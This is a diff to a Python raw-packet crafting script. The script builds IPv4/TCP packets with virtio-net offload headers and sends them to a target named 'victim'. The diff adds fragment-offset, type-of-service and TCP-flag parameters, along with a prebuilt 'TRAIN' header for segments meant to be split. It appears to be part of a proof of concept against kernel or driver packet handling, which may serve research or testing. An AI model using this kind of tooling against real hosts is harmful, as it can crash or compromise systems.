@@ -20,6 +20,8 @@ import sys
 MSS, PARTS, WINDOW = 32, 24, 64000
 PACKET_VNET_HDR = 15
 SOL_PACKET = 263
+# What a driver is told of a segment that is to be taken apart
+TRAIN = struct.pack('<BBHHHH', 1, 1, 54, MSS, 34, 16)
 
 
 def total(data):
@@ -31,9 +33,10 @@ def total(data):
     return value
 
 
-def ipv4(source, target, protocol, identification, payload):
-    head = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(payload),
-                       identification, 0, 64, protocol, 0, source, target)
+def ipv4(source, target, protocol, identification, payload, tos=0, place=0):
+    """@place: of a fragment, as the header says it"""
+    head = struct.pack('!BBHHHBBH4s4s', 0x45, tos, 20 + len(payload),
+                       identification, place, 64, protocol, 0, source, target)
     check = struct.pack('!H', 0xffff & ~total(head))
     return head[:10] + check + head[12:] + payload
 
@@ -42,9 +45,9 @@ def pseudo(source, target, protocol, length):
     return source + target + struct.pack('!HH', protocol, length)
 
 
-def segment(source, target, ports, seq, ack, data, whole=True):
+def segment(source, target, ports, seq, ack, data, whole=True, flags=0x10):
     """@whole: with its checksum, and not only that of the pseudo header"""
-    head = struct.pack('!HHIIBBHHH', *ports, seq, ack, 0x50, 0x10, WINDOW, 0, 0)
+    head = struct.pack('!HHIIBBHHH', *ports, seq, ack, 0x50, flags, WINDOW, 0, 0)
     value = pseudo(source, target, 6, len(head) + len(data))
     value = 0xffff & ~total(value + head + data) if whole else total(value)
     return head[:16] + struct.pack('!H', value) + head[18:] + data
@@ -72,7 +75,7 @@ def main():
         packet = frame + ipv4(me, victim, 6, seq >> 5 & 0xffff, segment(
             me, victim, (40022, 22), seq, ack, b'x' * MSS))
     elif what == 'train':
-        packet = struct.pack('<BBHHHH', 1, 1, 54, MSS, 34, 16) + frame + ipv4(
+        packet = TRAIN + frame + ipv4(
             me, friend, 6, seq >> 5 & 0xffff, segment(
                 me, friend, (40080, 80), seq, ack, b'y' * MSS * PARTS, False))
     elif what == 'frames':
@@ -87,4 +90,5 @@ def main():
         sock.send(packet)
 
 
-main()
+if __name__ == '__main__':
+    main()
